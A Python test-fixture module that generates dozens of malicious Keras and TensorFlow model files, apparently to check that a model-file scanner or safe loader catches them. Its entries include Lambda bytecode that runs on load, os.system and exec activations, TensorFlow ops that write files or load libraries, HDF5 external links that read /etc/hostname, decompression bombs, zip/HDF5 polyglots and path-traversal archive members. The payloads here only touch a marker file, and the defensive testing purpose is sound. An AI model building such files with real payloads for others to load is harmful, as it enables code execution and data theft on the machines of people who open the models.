"""Model files that would touch a file if they were loaded: one function for each way in.

Each of ATTACKS takes a folder and the path that its payload would touch, and returns the file it
wrote.
"""

from __future__ import annotations

import base64
import copy
import functools
import gzip
import io
import json
import marshal
import os
import tempfile
import warnings
import zipfile
from pathlib import Path

import h5py
import tensorflow as tf
import tf_keras
from tensorflow.core.protobuf import saved_model_pb2

ATTACKS = {}

# Honest files, by Keras 2.


def network():
    tf_keras.utils.set_random_seed(1)
    image = tf_keras.Input((8, 8, 3), name="image")
    flat = tf_keras.layers.Flatten(name="flat")(image)
    return tf_keras.Model(image, tf_keras.layers.Dense(3, name="out")(flat))


@functools.cache
def honest(name):
    """The network's file, as bytes."""
    with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings(action="ignore"):
        path = Path(folder) / name
        network().save(path)  # and Keras advises to use .keras instead of .h5
        return path.read_bytes()


def written(folder, data, name="net.keras"):
    (folder / name).write_bytes(data)
    return folder / name


def honest_h5(folder):
    return written(folder, honest("net.h5"), "net.h5")


def honest_keras(folder):
    return written(folder, honest("net.keras"))


def members_of(path):
    with zipfile.ZipFile(path) as file:
        return {name: file.read(name) for name in file.namelist()}


def members():
    """What is in an honest `.keras` file."""
    return members_of(io.BytesIO(honest("net.keras")))


def archive(files, into=b""):
    buffer = io.BytesIO(into)
    with zipfile.ZipFile(buffer, "a") as file:
        for name, content in files.items():
            file.writestr(name, content)
    return buffer.getvalue()


def h5_with(change):
    """An `.h5` whose configuration was changed."""

    def make(folder, trace):
        path = honest_h5(folder)
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            change(config["config"]["layers"], trace)
            file.attrs["model_config"] = json.dumps(config)
        return path

    return make


def keras_with(change):
    """A `.keras` whose configuration was changed."""

    def make(folder, trace):
        files = members()
        config = json.loads(files["config.json"])
        change(config["config"]["layers"], trace)
        return written(folder, archive({**files, "config.json": json.dumps(config)}))

    return make


# Changes of a configuration: of its layers, with the trace.


def code(trace, source="lambda x: [x, __import__('pathlib').Path({!r}).touch()][0]"):
    """A function that touches the trace, as Keras stores it."""
    return base64.b64encode(marshal.dumps(eval(source.format(str(trace))).__code__)).decode()


def without_slash(trace):
    """Bytecode in base64 that does not look like a path."""
    texts = (
        code(trace, "lambda x, y: [x, open({!r}, 'w'), " + repr("a" * length) + "][0]")
        for length in range(1000)
    )
    return next(text for text in texts if "/" not in text)


def insert(layers, layer):
    """Put a layer between the last two."""
    layers.insert(2, {"name": "l", **layer, "inbound_nodes": [[["flat", 0, 0, {}]]]})
    layers[3]["inbound_nodes"] = [[["l", 0, 0, {}]]]


def lambda_layer(trace):
    config = {"name": "l", "trainable": True, "dtype": "float32", "function_type": "lambda"}
    config |= {"function": [code(trace), None, None], "module": "builtins", "arguments": {}}
    config |= {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    return {"class_name": "Lambda", "config": config}


def with_lambda(layers, trace):
    insert(layers, lambda_layer(trace))


def with_setting(key, value):
    """The last layer with a setting; a function: of the trace."""

    def change(layers, trace):
        layers[-1]["config"][key] = value(trace) if callable(value) else value

    return change


def renamed(**names):
    """The last layer under other names."""
    return lambda layers, _: layers[-1].update(names)


def activation(module, name, registered=None):
    body = {"class_name": "function", "module": module, "config": name}
    return with_setting("activation", {**body, "registered_name": registered or name})


def within(kind, key, inside):
    """A layer in a layer."""

    def change(layers, trace):
        names = {"module": "keras.layers", "registered_name": None}
        config = {"name": "l", "trainable": True, "dtype": "float32", key: inside(trace)}
        insert(layers, {"class_name": kind, "config": config, **names})

    return change


def lookup(name, key="vocabulary", value=str):
    names = {"module": "keras.layers", "registered_name": None}
    return within(
        "TimeDistributed",
        "layer",
        lambda trace: {"class_name": name, "config": {"name": "v", key: value(trace)}, **names},
    )


def cell(name, key):
    """A wrapper of a recurrent cell, which calls a function of the file."""

    def inside(trace):
        config = {"name": "w", "cell": {"class_name": "SimpleRNNCell", "config": {"units": 48}}}
        config |= {key: [without_slash(trace), None, None], f"{key}_type": "lambda"}
        return {"class_name": name, "config": config | {f"{key}_module": "builtins"}}

    return within("RNN", "cell", inside)


def operator(kind, config, node):
    """A layer that calls TensorFlow while the network is built; node: of the trace."""

    def change(layers, trace):
        layer = {"class_name": kind, "name": "op", "inbound_nodes": [node(trace)]}
        layer["config"] = {"name": "op", "trainable": True, "dtype": "float32", **config}
        layers.insert(2, layer)

    return change


def calls(function, constant=str, kind="TFOpLambda", **more):
    return operator(
        kind, {"function": function}, lambda trace: ["_CONSTANT_VALUE", -1, constant(trace), more]
    )


def graph_operator(node):
    conf = {"node_def": node, "constants": {"0": "trace", "1": "x"}}
    return operator("TensorFlowOpLayer", conf, lambda _: ["flat", 0, 0, {}])


def inner_network(trace):
    first = {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i"}
    layers = [{"class_name": "InputLayer", "config": first}, lambda_layer(trace)]
    return json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": layers}})


def pair(first, kind, **more):
    """A composite constant: two items, the second of them JSON."""
    return {"class_name": "__tuple__", "items": [first, json.dumps({"class_name": kind, **more})]}


def composite_of_a_layer(layers, _):
    """Of no operator: any layer's input may be such a constant."""
    value = pair({"_TYPE": "COMPOSITE"}, "TypeSpec", type_spec="x", serialized=[])
    layers[-1]["inbound_nodes"] = [["_CONSTANT_VALUE", -1, value, {}]]


def training_of_a_nested_network(layers, trace):
    inside = copy.deepcopy({"class_name": "Functional", "config": {"name": "n", "layers": layers}})
    loss = {"class_name": "__lambda__", "config": {"value": [code(trace), None, None]}}
    inside["config"]["layers"][2]["config"]["weights"] = "x.npz"
    layers[2].update(inside, compile_config={"loss": loss})


def bomb(depth):
    return functools.reduce(lambda inside, _: {"x": inside}, range(depth), {})


# The word for a value, as a class that is imported by its second name.
ALIAS = {"module": "tf_keras.src.utils.data_utils", "registered_name": "get_file", "config": {}}
FETCHED = {"origin": "file:///etc/hostname"}
COPIED = {"newpath": "x", "overwrite": True}
for _function, _constant, _more in (
    ("keras.models.model_from_json", inner_network, {}),
    ("keras.models.model_from_config", inner_network, {}),
    ("keras.models.load_model", str, {}),
    ("keras.utils.get_file", str, FETCHED),
    ("load_op_library", str, {}),
    ("load_library", str, {}),
    ("compat.v1.gfile.Copy", lambda _: "/etc/hostname", COPIED),
    ("compat.v1.gfile.MkDir", str, {}),
    ("io.write_file", str, {"contents": "x"}),
    ("io.gfile.makedirs", str, {}),
    ("raw_ops.WriteFile", str, {"contents": "x"}),
    (" io.write_file", str, {"contents": "x"}),
    ("print", str, {"output_stream": "file:///tmp/x"}),
    ("summary.create_file_writer", str, {}),
    ("py_function", str, {}),
    ("compat.v1.py_func", str, {}),
    ("saved_model.load", str, {}),
    ("profiler.experimental.start", str, {}),
):
    ATTACKS[f"TFOpLambda:{_function}"] = h5_with(calls(_function, _constant, **_more))

ATTACKS |= {
    name: h5_with(change)
    for name, change in {
        "lambda.h5": with_lambda,
        "SlicingOpLambda": calls("io.write_file", kind="SlicingOpLambda", contents="x"),
        "TFOpLambda without a name": calls(["io.write_file"], contents="x"),
        "ClassMethod": operator(
            "ClassMethod",
            {"cls_symbol": "io.TFRecordWriter", "method_name": "__call__"},
            lambda trace: ["_CONSTANT_VALUE", -1, [str(trace)], {"kwargs": {}}],
        ),
        **{
            kind: operator(kind, {"attr_name": "__reduce__"}, lambda _: ["flat", 0, 0, {}])
            for kind in ("InstanceMethod", "InstanceProperty")
        },
        "TensorFlowOpLayer": graph_operator({"name": "w", "op": "WriteFile", "input": ["x"]}),
        "TensorFlowOpLayer in bytes": graph_operator("\n\x01w\x12\tWriteFile"),
        "a composite constant": calls(
            "math.add", lambda _: pair("_COMPOSITE_TYPE", "CompositeTensor", tensors=[]), y=1
        ),
    }.items()
}

for _name, _change in {
    "a registered Lambda": renamed(registered_name="Lambda"),
    "a registered package": renamed(registered_name="evil>Lambda"),
    "a list of names": renamed(registered_name=["Dense"]),
    "Dense of os": renamed(module="os"),
    "Functional of utils": renamed(class_name="Functional", module="keras.src.utils.io_utils"),
    "Dense of a Keras module": renamed(module="tf_keras.src.utils.data_utils"),
    "a class that is a function": renamed(class_name="get_file", module="keras.utils"),
    "a class of another class": renamed(class_name="Model.from_config", module="keras"),
    "TFSMLayer": renamed(class_name="TFSMLayer"),
    "a Lambda with a package": renamed(class_name="keras>Lambda"),
    "TorchModuleWrapper": renamed(class_name="TorchModuleWrapper"),
    "JaxLayer": renamed(class_name="JaxLayer"),
    "os.system": activation("os", "system"),
    "builtins.exec": activation("builtins", "exec"),
    "keras.utils.get_file": activation("keras.utils", "get_file"),
    "keras.saving.load_model": activation("keras.saving", "load_model"),
    "unsafe deserialization": activation("keras.config", "enable_unsafe_deserialization"),
    "a function's other name": activation("keras.utils", "relu", "get_file"),
    "a string that is a function": with_setting("activation", "deserialize"),
    "a string that is an initializer": with_setting("kernel_initializer", "eval"),
    "__lambda__": with_setting(
        "activation",
        lambda t: {"class_name": "__lambda__", "config": {"value": [code(t), None, None]}},
    ),
    "__typespec__": with_setting(
        "activity_regularizer",
        {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": []},
    ),
    "bytes": with_setting(
        "bias_constraint", lambda t: {"class_name": "__bytes__", "config": {"value": str(t)}}
    ),
    "a path to weights": with_setting("weights", "weights.npz"),
    "a path of another name": with_setting("units", "../secret"),
    "JSON in a string": with_setting("dtype", inner_network),
    "a value that is a class": with_setting("units", {"class_name": "TensorShape", **ALIAS}),
    "a slice that is a class": with_setting("units", {"class_name": "__slice__", **ALIAS}),
    "ResidualWrapper": cell("ResidualWrapper", "residual_fn"),
    "DropoutWrapper": cell("DropoutWrapper", "dropout_fn"),
    "DeviceWrapper": cell("DeviceWrapper", "device"),
    "a composite constant of a layer": composite_of_a_layer,
    "bytecode as a setting": with_setting("anything", without_slash),
    "too deep": with_setting("extra", bomb(300)),
    "a vocabulary": lookup("StringLookup"),
    "a vocabulary beside the model": lookup("TextVectorization", value=lambda _: "v.txt"),
    "weights of words": lookup("IntegerLookup", "idf_weights", lambda _: "w.txt"),
    "training of a nested network": training_of_a_nested_network,
}.items():
    ATTACKS[f"{_name}, .keras"] = keras_with(_change)
    ATTACKS[f"{_name}, .h5"] = h5_with(_change)

# Weights that are not in the file, or larger than it.


def zipped(name, size, **options):
    return lambda group: group.create_dataset(name, size, "f4", compression="gzip", **options)


def deep_groups(group):
    for _ in range(300):
        group = group.create_group("g")


def h5_with_weights(change):
    def make(folder, _):
        path = honest_h5(folder)
        with h5py.File(path, "r+") as file:
            change(file["model_weights"])
        return path

    return make


def keras_with_weights(change):
    def make(folder, _):
        files = members()
        path = written(folder, files["model.weights.h5"], "weights.h5")
        with h5py.File(path, "r+") as file:
            change(file)
        data = path.read_bytes()
        path.unlink()
        return written(folder, archive({**files, "model.weights.h5": data}))

    return make


for _name, _change in {
    "external_link": lambda g: g.__setitem__("stolen", h5py.ExternalLink("/etc/hostname", "/")),
    "external_values": lambda g: g.create_dataset(
        "stolen", (5,), "u1", external=[("/etc/hostname", 0, 5)]
    ),
    "shape_bomb": zipped("large", (1 << 32,), chunks=(1 << 20,)),
    # One value, which is unpacked with 2 GB of others.
    "chunk_bomb": zipped("large", (1,), chunks=(1 << 29,), maxshape=(None,)),
    "deep_groups": deep_groups,
}.items():
    ATTACKS[f"{_name}, .keras"] = keras_with_weights(_change)
    ATTACKS[f"{_name}, .h5"] = h5_with_weights(_change)

# Files that are two files.


def hidden_h5(folder, trace, block=512):
    """An HDF5 with a Lambda, behind a user block."""
    bad = h5_with(with_lambda)(folder, trace)
    path = folder / "block.h5"
    with h5py.File(bad) as old, h5py.File(path, "w", userblock_size=block) as new:
        for key, value in old.attrs.items():
            new.attrs[key] = value
        for key in old:
            old.copy(key, new)
    return path


def behind_a_zips_head(folder, trace):
    data = b"PK\x03\x04" + hidden_h5(folder, trace).read_bytes()[4:]
    return written(folder, archive(members(), data), "net.h5")


def behind_a_whole_zip(folder, trace):
    front = archive(members())
    data = hidden_h5(folder, trace, 1 << (len(front) - 1).bit_length()).read_bytes()
    return written(folder, front + data[len(front) :], "net.h5")


def bad_members(folder, trace):
    return members_of(keras_with(with_lambda)(folder, trace))


def zip_inside(folder, trace):
    """An honest HDF5 with an archive as a tensor, under the archive's suffix: only numbers."""
    bad = archive(bad_members(folder, trace))
    path = honest_h5(folder)
    with h5py.File(path, "r+") as file:
        file.create_dataset("z", data=[*bad], dtype="u1")
    return path.rename(folder / "net.keras")


def gap(data):
    """A member that is in no list, between two that are."""
    at = zipfile.ZipFile(io.BytesIO(data)).infolist()[1].header_offset
    hole = b"PK\x03\x04" + bytes(26)
    moved = bytearray(data[:at] + hole + data[at:])

    def shift(place):
        offset = int.from_bytes(moved[place : place + 4], "little")
        if offset >= at:
            moved[place : place + 4] = (offset + len(hole)).to_bytes(4, "little")

    central = moved.find(b"PK\x01\x02")
    while central >= 0:
        shift(central + 42)
        central = moved.find(b"PK\x01\x02", central + 4)
    shift(moved.rindex(b"PK\x05\x06") + 16)
    return bytes(moved)


def other_name(data):
    """config.json by the list of files, and something else by the header in front of it."""
    return data.replace(b"config.json", b"cOnfig.json", 1)


ATTACKS |= {
    "HDF5 behind a zip's head": behind_a_zips_head,
    "HDF5 behind a whole zip": behind_a_whole_zip,
    "a user block": hidden_h5,
    "a zip behind HDF5": lambda folder, trace: written(
        folder, archive(bad_members(folder, trace), honest("net.h5"))
    ),
    "HDF5 in a zip": lambda folder, trace: written(
        folder, archive({"net.h5": h5_with(with_lambda)(folder, trace).read_bytes()})
    ),
    "HDF5 in gzip": lambda folder, trace: written(
        folder, gzip.compress(h5_with(with_lambda)(folder, trace).read_bytes()), "net.h5"
    ),
    "HDF5 with something behind it": lambda folder, _: written(
        folder, honest("net.h5") + bytes(8), "net.h5"
    ),
}
for _name, _data in {
    "bytes in front of a zip": lambda: b"PK\x03\x04" + bytes(60) + archive(members()),
    "bytes behind a zip": lambda: archive(members()) + bytes(30),
    "a comment of a zip": lambda: archive(members())[:-2] + b"\4\0#!/x",
    "a gap in a zip": lambda: gap(archive(members())),
    "two names of one member": lambda: other_name(archive(members())),
    "no network": lambda: archive({**members(), "config.json": "{}"}),
    "a member outside": lambda: archive({**members(), "../../x": b"x"}),
    "an asset": lambda: archive({**members(), "assets/layers/lookup/vocabulary.txt": b"x"}),
    "an archive of arrays": lambda: archive({**members(), "model.weights.npz": b"x"}),
}.items():
    ATTACKS[_name] = lambda folder, _, data=_data: written(folder, data())

# SavedModels.


def nothing(*_):
    pass


def saved_model(folder, body, trace=None, change=None, **parts):
    """A folder whose signature calls `body` with the image and the trace; change: of its graph."""
    module = tf.Module()
    module.weights = tf.Variable(tf.random.stateless_normal((192, 3), (1, 2)))
    for name, part in parts.items():
        setattr(module, name, part)

    @tf.function(input_signature=[tf.TensorSpec((None, 8, 8, 3), tf.float32, name="image")])
    def serve(image):
        body(image, trace)
        return {"out": tf.reshape(image, (-1, 192)) @ module.weights}

    module.serve = serve
    tf.saved_model.save(module, str(folder / "net"), signatures=serve)
    if change:
        file, saved = folder / "net" / "saved_model.pb", saved_model_pb2.SavedModel()
        saved.ParseFromString(file.read_bytes())
        change(saved.meta_graphs[0], trace)
        file.write_bytes(saved.SerializeToString())
    return folder / "net"


def write(trace):
    return tf.io.write_file(str(trace), "x")


def writer(trace, **options):
    """A function of the graph that writes and gives nothing."""
    return tf.function(lambda: (write(trace), None)[1], **options)


def records(_, trace):
    variant = tf.data.Dataset.from_tensors(tf.constant("x"))._variant_tensor
    tf.raw_ops.DatasetToTFRecord(input_dataset=variant, filename=str(trace), compression_type="")


def branch(image, trace):
    tf.cond(tf.size(image) > 0, lambda: (write(trace), 0)[1], lambda: 1)


def loop(_, trace):
    def body(i):
        with tf.control_dependencies([write(trace)]):
            return [i + 1]

    tf.while_loop(lambda i: i < 1, body, [0])


CHECKPOINT = {"tensor_names": ["x"], "shape_and_slices": [""]}


def checkpoint(_, trace):
    """What is read: a checkpoint at the trace."""
    return tf.raw_ops.RestoreV2(prefix=str(trace), dtypes=[tf.float32], **CHECKPOINT)


def checkpoint_written(image, trace):
    tf.raw_ops.SaveV2(prefix=str(trace), tensors=[image], **CHECKPOINT)


class Restored(tf.Module):
    """Restoring it runs a function of the graph."""

    def __init__(self, trace):
        super().__init__()
        self.trace = trace

    def _serialize_to_tensors(self):
        return {"x": tf.constant(1.0)}

    def _restore_from_tensors(self, tensors):
        return write(self.trace)


class Resource(tf.saved_model.experimental.TrackableResource):
    """Its initializer is run when it is loaded."""

    def __init__(self, trace):
        super().__init__()
        self.trace = trace

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=())

    def _initialize(self):
        write(self.trace)


def twice(graph, _):
    for function in list(graph.graph_def.library.function):
        graph.graph_def.library.function.add().signature.name = function.signature.name


def like_an_operator(graph, _):
    graph.graph_def.library.function.add().signature.name = "WriteFile"


def read_when_serving(graph, trace):
    """By TensorFlow 1's graph: the node that restores, at the path that is in the file."""
    graph.ClearField("object_graph_def")
    with tf.Graph().as_default() as read:
        node = checkpoint(None, trace)[0].op
    graph.graph_def.node.extend(read.as_graph_def().node)
    graph.saver_def.filename_tensor_name = node.inputs[0].name
    graph.saver_def.restore_op_name = node.name
    graph.signature_def["serving_default"].outputs["out"].name = node.outputs[0].name


def with_an_asset(folder, _):
    (folder / "words.txt").write_text("x", encoding="utf-8")
    return saved_model(folder, nothing, part=tf.saved_model.Asset(str(folder / "words.txt")))


def with_a_link(folder, _):
    file = saved_model(folder, nothing) / "variables" / "variables.index"
    file.rename(folder / "elsewhere")
    os.symlink(folder / "elsewhere", file)  # noqa: PTH211
    return folder / "net"


for _name, _body in {
    "an operator that writes": lambda _, trace: write(trace),
    "an operator that reads": lambda *_: tf.io.read_file("/etc/hostname"),
    "records": records,
    "the branch of a condition": branch,
    "the body of a loop": loop,
    "a called function": lambda _, trace: writer(trace)(),
    "Python's function": lambda image, _: tf.py_function(lambda y: y, [image], tf.float32),
    "a checkpoint that is read": checkpoint,
    "a checkpoint that is written": checkpoint_written,
}.items():
    ATTACKS[_name] = functools.partial(
        lambda body, folder, trace: saved_model(folder, body, trace), _body
    )
for _name, _make in {
    "a function that nothing calls": lambda trace: writer(trace, input_signature=[]),
    "the function that restores": Restored,
    "the initializer of a resource": Resource,
}.items():
    ATTACKS[_name] = functools.partial(
        lambda make, folder, trace: saved_model(folder, nothing, part=make(trace)), _make
    )
for _name, _change in {
    "two functions of one name": twice,
    "a function called like an operator": like_an_operator,
    "a checkpoint that serving reads": read_when_serving,
}.items():
    ATTACKS[_name] = functools.partial(
        lambda change, folder, trace: saved_model(
            folder, lambda _, path: write(path) if change is not read_when_serving else None,
            trace, change,
        ),
        _change,
    )  # fmt: skip
ATTACKS |= {"an asset of a SavedModel": with_an_asset, "a link in a SavedModel": with_a_link}
